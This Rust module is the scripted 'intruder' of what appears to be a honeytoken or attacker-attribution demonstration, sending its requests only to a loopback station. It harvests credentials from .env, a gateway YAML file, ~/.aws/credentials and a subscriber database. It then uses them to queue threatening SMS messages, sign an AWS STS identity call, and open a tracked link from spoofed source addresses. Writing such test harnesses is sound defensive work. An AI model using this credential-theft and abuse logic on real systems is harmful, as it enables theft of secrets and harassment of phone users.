//! The intruder of the demonstration: reads the service's files as a thief would, and tries what is
//! in them. Connects only to the demonstration's own station on loopback.
//!
//! He has the habits that real ones keep when they change networks: a script of his own, whose requests look like
//! nobody else's, the same text for everybody, and the bait at hand goes along. By that his two networks are told
//! to be one hand. Whoever opens the link that he passed on has nothing in common with him, and stays apart.

use std::net::SocketAddr;

use anyhow::Context as _;
use data_encoding::{BASE64, HEXLOWER};
use hmac::{Hmac, KeyInit as _, Mac as _};
use lapwing_core::bounded;
use rusqlite::Connection;
use sha2::{Digest as _, Sha256};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use url::Url;

use super::stage::Stage;

/// What was found.
pub(super) struct Loot {
    relay: Url,
    account: String,
    token: String,
    gateway: Url,
    user: String,
    password: String,
    cloud: Url,
    key_id: String,
    secret_key: String,
    profile: Url,
}

impl Loot {
    pub(super) fn read(stage: &Stage) -> anyhow::Result<Self> {
        let text = |path: &str| bounded::read_text(&stage.service().join(path), 1 << 20);
        let env = pairs(&text(".env")?, '=');
        let yaml = pairs(&text("config/gateway.yaml")?, ':');
        let aws = |name: &str| {
            let path = stage.home().join(".aws").join(name);
            bounded::read_text(&path, 1 << 20).map(|text| pairs(&text, '='))
        };
        let (credentials, config) = (aws("credentials")?, aws("config")?);
        let database = Connection::open(stage.service().join("subscribers.db"))?;
        let profile: String = database.query_row(
            "SELECT profile_url FROM subscribers WHERE profile_url IS NOT NULL",
            [],
            |row| row.get(0),
        )?;
        Ok(Self {
            account: value(&env, |_, value| {
                value.starts_with("AC") && value.len() == 34
            })?,
            token: value(&env, |name, _| name.ends_with("AUTH_TOKEN"))?,
            relay: value(&env, |_, value| value.starts_with("http://"))?.parse()?,
            gateway: value(&yaml, |_, value| value.starts_with("http://"))?.parse()?,
            user: value(&yaml, |name, _| name.contains("user"))?,
            password: value(&yaml, |name, _| name.contains("pass"))?,
            key_id: value(&credentials, |name, _| name == "aws_access_key_id")?,
            secret_key: value(&credentials, |name, _| name == "aws_secret_access_key")?,
            cloud: value(&config, |name, _| name == "endpoint_url")?.parse()?,
            profile: profile.parse()?,
        })
    }
}

/// `NAME=value` or `name: value` lines.
fn pairs(text: &str, separator: char) -> Vec<(String, String)> {
    text.lines()
        .filter_map(|line| line.split_once(separator))
        .map(|(name, value)| {
            let value = value.trim().trim_matches(['"', '\'']);
            (name.trim().to_owned(), value.to_owned())
        })
        .collect()
}

fn value(
    pairs: &[(String, String)],
    wanted: impl Fn(&str, &str) -> bool,
) -> anyhow::Result<String> {
    let found = pairs.iter().find(|(name, value)| wanted(name, value));
    found
        .map(|(_, value)| value.clone())
        .context("the bait is not where it was planted")
}

/// One request of the intruder's.
pub(super) struct Deed {
    pub(super) what: &'static str,
    pub(super) from: SocketAddr,
    host: String,
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, String)>,
    body: String,
}

/// What his script calls itself.
const SCRIPT: &str = "smsq/0.3";
/// What he texts, to whomever.
const THREAT: &str = "Your data was taken. Reply STOP to be removed.";

/// The header of each request of his script, which he wrote himself.
fn script() -> Vec<(&'static str, String)> {
    vec![
        ("X-Queue", "7".to_owned()),
        ("Accept", "*/*".to_owned()),
        ("User-Agent", SCRIPT.to_owned()),
        ("Accept-Encoding", "identity".to_owned()),
    ]
}

/// What happens, in order: texts through both gateways; the same script from another network, with the key of the
/// text gateway again, a look at the cloud account and a subscriber's link; then somebody else's telephone, and the
/// preview of the chat in which that link was passed on.
pub(super) fn deeds(loot: &Loot) -> Vec<Deed> {
    let den: SocketAddr = ([198, 51, 100, 23], 40_312).into();
    let away: SocketAddr = ([203, 0, 113, 77], 51_004).into();
    let mut deeds = vec![send(
        loot,
        den,
        "balance of the text gateway",
        "/balance",
        &[],
    )];
    for to in ["+12025550111", "+12025550112", "+12025550113"] {
        deeds.push(text(loot, den, to));
    }
    let list = "list accounts of the SMS relay";
    deeds.push(relay(loot, den, list, "GET", ".json", &[]));
    for to in ["+12025550121", "+12025550122"] {
        let form = [("To", to), ("From", "+12025550100"), ("Body", THREAT)];
        let path = format!("/{}/Messages.json", loot.account);
        let queue = "queue a text through the SMS relay";
        deeds.push(relay(loot, den, queue, "POST", &path, &form));
    }
    deeds.push(text(loot, away, "+12025550112"));
    deeds.push(caller_identity(loot, away));
    let open = "open the subscriber's link";
    deeds.push(open_link(loot, away, open, script()));
    deeds.extend(bystanders(loot));
    deeds
}

/// Who opens the link beside him.
fn bystanders(loot: &Loot) -> [Deed; 2] {
    let at = |address: &str, port| {
        let address = address.parse().expect("a literal address");
        SocketAddr::new(address, port)
    };
    let browser = "Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) \
                   Chrome/140.0.0.0 Mobile Safari/537.36";
    let preview = "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)";
    let header = |fields: [(&'static str, &str); 3]| {
        let fields = fields.into_iter();
        fields
            .map(|(name, value)| (name, value.to_owned()))
            .collect()
    };
    [
        open_link(
            loot,
            at("2001:db8:40::9", 49_152),
            "somebody's telephone opens the same link",
            header([
                ("User-Agent", browser),
                ("Accept", "text/html"),
                ("Accept-Language", "en-US,en;q=0.9"),
            ]),
        ),
        open_link(
            loot,
            at("2001:db8:41::5", 50_010),
            "a chat makes a preview of it",
            header([
                ("Range", "bytes=0-32768"),
                ("User-Agent", preview),
                ("Accept", "*/*"),
            ]),
        ),
    ]
}

fn send(
    loot: &Loot,
    from: SocketAddr,
    what: &'static str,
    path: &str,
    more: &[(&str, &str)],
) -> Deed {
    let mut url = loot.gateway.clone();
    url.set_path(path);
    url.query_pairs_mut()
        .append_pair("username", &loot.user)
        .append_pair("password", &loot.password)
        .extend_pairs(more);
    let target = format!("{}?{}", url.path(), url.query().unwrap_or_default());
    let headers = script();
    let host = authority(&url);
    Deed {
        what,
        from,
        host,
        method: "GET",
        target,
        headers,
        body: String::new(),
    }
}

fn text(loot: &Loot, from: SocketAddr, to: &str) -> Deed {
    let more = [("to", to), ("from", "ALERTS"), ("content", THREAT)];
    send(
        loot,
        from,
        "queue a text through the stolen gateway key",
        "/send",
        &more,
    )
}

fn relay(
    loot: &Loot,
    from: SocketAddr,
    what: &'static str,
    method: &'static str,
    path: &str,
    form: &[(&str, &str)],
) -> Deed {
    let body = url::form_urlencoded::Serializer::new(String::new())
        .extend_pairs(form)
        .finish();
    let basic = BASE64.encode(format!("{}:{}", loot.account, loot.token).as_bytes());
    let mut headers = script();
    headers.push(("Authorization", format!("Basic {basic}")));
    if !body.is_empty() {
        headers.push((
            "Content-Type",
            "application/x-www-form-urlencoded".to_owned(),
        ));
    }
    let target = format!("/2010-04-01/Accounts{path}");
    Deed {
        what,
        from,
        host: authority(&loot.relay),
        method,
        target,
        headers,
        body,
    }
}

fn open_link(
    loot: &Loot,
    from: SocketAddr,
    what: &'static str,
    headers: Vec<(&'static str, String)>,
) -> Deed {
    let target = loot.profile[url::Position::BeforePath..].to_owned();
    Deed {
        what,
        from,
        host: authority(&loot.profile),
        method: "GET",
        target,
        headers,
        body: String::new(),
    }
}

/// AWS STS GetCallerIdentity, signed with the stolen key (Signature Version 4).
fn caller_identity(loot: &Loot, from: SocketAddr) -> Deed {
    let body = "Action=GetCallerIdentity&Version=2011-06-15".to_owned();
    let now = jiff::Timestamp::now();
    let time = now.strftime("%Y%m%dT%H%M%SZ").to_string();
    let day = &time[..8];
    let host = authority(&loot.cloud);
    let payload = HEXLOWER.encode(&Sha256::digest(&body));
    let canonical =
        format!("POST\n/\n\nhost:{host}\nx-amz-date:{time}\n\nhost;x-amz-date\n{payload}");
    let scope = format!("{day}/us-west-2/sts/aws4_request");
    let hashed = HEXLOWER.encode(&Sha256::digest(&canonical));
    let to_sign = format!("AWS4-HMAC-SHA256\n{time}\n{scope}\n{hashed}");
    let secret = format!("AWS4{}", loot.secret_key);
    let key = [day, "us-west-2", "sts", "aws4_request"]
        .iter()
        .fold(secret.into_bytes(), |key, part| hmac_sha256(&key, part));
    let signature = HEXLOWER.encode(&hmac_sha256(&key, &to_sign));
    let authorization = format!(
        "AWS4-HMAC-SHA256 Credential={}/{scope}, SignedHeaders=host;x-amz-date, \
         Signature={signature}",
        loot.key_id
    );
    let mut headers = script();
    headers.extend([
        ("X-Amz-Date", time),
        (
            "Content-Type",
            "application/x-www-form-urlencoded; charset=utf-8".to_owned(),
        ),
        ("Authorization", authorization),
    ]);
    Deed {
        what: "ask the cloud key who it is",
        from,
        host,
        method: "POST",
        target: "/".to_owned(),
        headers,
        body,
    }
}

fn hmac_sha256(key: &[u8], message: &str) -> Vec<u8> {
    let mut mac = Hmac::<Sha256>::new_from_slice(key).expect("HMAC takes keys of any length");
    mac.update(message.as_bytes());
    mac.finalize().into_bytes().to_vec()
}

fn authority(url: &Url) -> String {
    let host = url.host_str().unwrap_or_default();
    url.port()
        .map_or_else(|| host.to_owned(), |port| format!("{host}:{port}"))
}

impl Deed {
    /// Sends the request to the station and gives the answer's status line.
    pub(super) async fn commit(&self, station: SocketAddr) -> anyhow::Result<String> {
        let family = if self.from.is_ipv4() { "TCP4" } else { "TCP6" };
        let to = if self.from.is_ipv4() {
            "127.0.0.1"
        } else {
            "::1"
        };
        let mut request = format!(
            "PROXY {family} {} {to} {} {}\r\n{} {} HTTP/1.1\r\nHost: {}\r\n",
            self.from.ip(),
            self.from.port(),
            station.port(),
            self.method,
            self.target,
            self.host
        );
        for (name, value) in &self.headers {
            request.push_str(&format!("{name}: {value}\r\n"));
        }
        if !self.body.is_empty() {
            request.push_str(&format!("Content-Length: {}\r\n", self.body.len()));
        }
        request.push_str("Connection: close\r\n\r\n");
        request.push_str(&self.body);
        let mut socket = TcpStream::connect(station).await?;
        socket.write_all(request.as_bytes()).await?;
        let mut head = vec![0; 4096];
        let read = socket.read(&mut head).await?;
        let head = String::from_utf8_lossy(&head[..read]);
        let status = head.lines().next().context("no answer")?;
        Ok(status.trim_start_matches("HTTP/1.1 ").to_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_link_is_opened_with_its_query() {
        let nothing = String::new;
        let url = |text: &str| Url::parse(text).unwrap();
        let loot = Loot {
            relay: url("http://relay.example.org"),
            account: nothing(),
            token: nothing(),
            gateway: url("http://gateway.example.org"),
            user: nothing(),
            password: nothing(),
            cloud: url("http://cloud.example.org"),
            key_id: nothing(),
            secret_key: nothing(),
            profile: url("http://people.example.org/inform?qh=forum-7"),
        };
        let opened = deeds(&loot)
            .into_iter()
            .filter(|deed| deed.target == "/inform?qh=forum-7");
        assert_eq!(opened.count(), 3);
    }
}
